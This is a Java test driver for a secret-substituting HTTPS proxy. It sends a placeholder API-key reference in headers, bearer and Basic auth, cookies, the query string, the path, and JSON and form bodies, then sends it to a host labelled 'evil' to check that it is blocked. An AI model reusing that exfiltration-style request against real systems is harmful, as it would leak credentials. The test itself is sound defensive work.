// Java's URLConnection, which takes no credentials for the proxy but by an Authenticator.
import java.net.*;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

class Driver {
    static final String REF = "{secrets.crm.apiKey}";

    public static void main(String[] arguments) throws Exception {
        String base = arguments[0], evil = arguments[1], address = arguments[2];
        String[] pair = URI.create(System.getenv("HTTPS_PROXY")).getUserInfo().split(":");
        Authenticator.setDefault(new Authenticator() {
            protected PasswordAuthentication getPasswordAuthentication() {
                return getRequestorType() == RequestorType.PROXY ? new PasswordAuthentication(pair[0], pair[1].toCharArray()) : null;
            }
        });
        String encoded = URLEncoder.encode(REF, "UTF-8");
        ok(base + "/header", "X-Api-Key", REF, null);
        ok(base + "/bearer", "Authorization", "Bearer " + REF, null);
        ok(base + "/query?k=" + encoded, "X", "x", null);
        ok(base + "/path/" + REF + "/x", "X", "x", null);
        ok(base + "/basic", "Authorization", "Basic " + Base64.getEncoder().encodeToString(("me:" + REF).getBytes()), null);
        ok(base + "/cookie", "Cookie", "s=" + REF, null);
        ok(base + "/json", "Content-Type", "application/json", "{\"k\":\"" + REF + "\"}");
        ok(base + "/form", "Content-Type", "application/x-www-form-urlencoded", "k=" + encoded);
        ok(address + "/address", "X-Api-Key", "{secrets.open}", null);
        System.out.println(text(open(evil + "/", "X", REF, null).getErrorStream()));
    }

    static HttpURLConnection open(String url, String name, String value, String body) throws Exception {
        var connection = (HttpURLConnection) new URL(url).openConnection();
        connection.setRequestProperty(name, value);
        if (body != null) {
            connection.setDoOutput(true);
            connection.getOutputStream().write(body.getBytes(StandardCharsets.UTF_8));
        }
        connection.getResponseCode();
        return connection;
    }

    static void ok(String url, String name, String value, String body) throws Exception {
        text(open(url, name, value, body).getInputStream());
    }

    static String text(java.io.InputStream stream) throws Exception {
        return new String(stream.readAllBytes(), StandardCharsets.UTF_8);
    }
}
